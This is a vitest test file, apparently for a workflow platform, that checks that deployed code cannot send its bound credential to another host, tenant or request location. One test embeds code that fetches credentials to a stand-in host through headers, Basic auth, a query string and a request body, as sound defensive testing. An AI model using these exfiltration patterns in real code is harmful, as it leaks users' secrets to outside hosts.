/** Code that sends its credential where it does not belong: to another host, to another tenant, in another place. */
import { afterAll, beforeAll, expect, test } from 'vitest'
import { House } from './house/house.ts'
import { ATTEMPTS, THIEF, THIEF_OUTSIDE } from './probes/thefts.ts'
import { called } from './probes/probes.ts'

let house: House
let trigger: string
beforeAll(async () => {
  house = await House.open()
  const runtime = { api_key: '{{steps.trigger.event.body.key}}' }
  const step = { auth: { parcels: { runtime, hosts: [house.app], places: { headers: ['authorization'] } } } }
  trigger = await house.deploy({ code: THIEF, step })
})
afterAll(() => house?.close())

const names = Object.keys(ATTEMPTS)
const where = ({ app, tenant, elsewhere }: House) => ({ app, tenant, elsewhere })

/** Refused with a reason, broken off, or sent with a handle in it that is worth nothing. */
const FAILED = /^(?:\d{3}|1|undefined|\[object Object\]|.*(?:Error|Fault|failed|given up).*)$/s

test.for(names)('fails by %s', async (attempt) => {
  const { status, body } = await house.call(trigger, { key: house.credential, attempt, ...where(house) })
  const told = status === 200 ? String(body) : JSON.stringify(body)
  expect(told).not.toMatch(/SyntaxError|ReferenceError|is not a function|not defined/)
  expect(told).toMatch(status === 200 ? FAILED : /credential_|dead_handle|code_failed/)
  expect(house.found()).toEqual([])
  expect(house.vendor.bytes.includes('GET /smuggled')).toBe(false)
})

test('fails by a handle of one app in the header, the name and password, or the body of another', async () => {
  const bindings = {
    parcels: { runtime: { api_key: '{{steps.trigger.event.body.key}}' }, hosts: [house.app] },
    desk: {
      runtime: { token: '{{steps.trigger.event.body.desk}}' },
      hosts: [house.elsewhere],
      places: { headers: ['authorization'], query: ['token'], body: ['token'] }
    }
  }
  const code = `export default {
    props: { parcels: { type: 'app', app: 'parcels' }, desk: { type: 'app', app: 'desk' } },
    async run() {
      const [key, own] = [this.parcels.$auth.api_key, this.desk.$auth.token]
      const to = 'http://${house.elsewhere}/'
      const json = { 'content-type': 'application/json' }
      const answers = [
        await fetch(to, { headers: { authorization: 'Bearer ' + own } }),
        await fetch(to, { headers: { authorization: 'Bearer ' + key } }),
        await fetch(to, { headers: { authorization: 'Basic ' + btoa(own + ':' + key) } }),
        await fetch(to + '?token=' + key),
        await fetch(to, { method: 'POST', headers: json, body: JSON.stringify({ token: key }) })
      ]
      return answers.map(({ status }) => status)
    }
  }`
  const desk = 'desk-credential-0123456789'
  house.thief.forget()
  const { body } = await house.attack({ code, step: { auth: bindings, retry: { attempts: 1 } } }, { desk })
  expect(body).toMatchObject({ code: 'credential_wrong_host' })
  expect(house.thief.got[0]?.headers.authorization).toBe(`Bearer ${desk}`)
  expect(house.found()).toEqual([])
})

test('and after all of it, the server and others go on', async () => {
  await expect(house.judge()).resolves.toBeUndefined()
})

/** What Node as it is cannot do: it follows a redirect without the credential, say, and has no `$`. */
const ONLY_HERE = ['a redirect', 'userinfo of its own app', 'a proxy variable', '$.send', 'an answer']

test('of which the real value, in Node as it is, would be seen', async () => {
  const arrived = await outside(names.filter((name) => !ONLY_HERE.includes(name)))
  expect(Object.keys(arrived).filter((name) => !arrived[name])).toEqual([])
})

/** Whether the credential came to any host, in clear or encoded. */
async function outside(attempts: string[]): Promise<Record<string, boolean>> {
  const arrived: Record<string, boolean> = {}
  for (const attempt of attempts) {
    await house.forgetting(async () => {
      await called(THIEF_OUTSIDE, 'tried', [attempt, { ...where(house), key: house.credential }])
      arrived[attempt] = house.arrived()
    })
  }
  return arrived
}
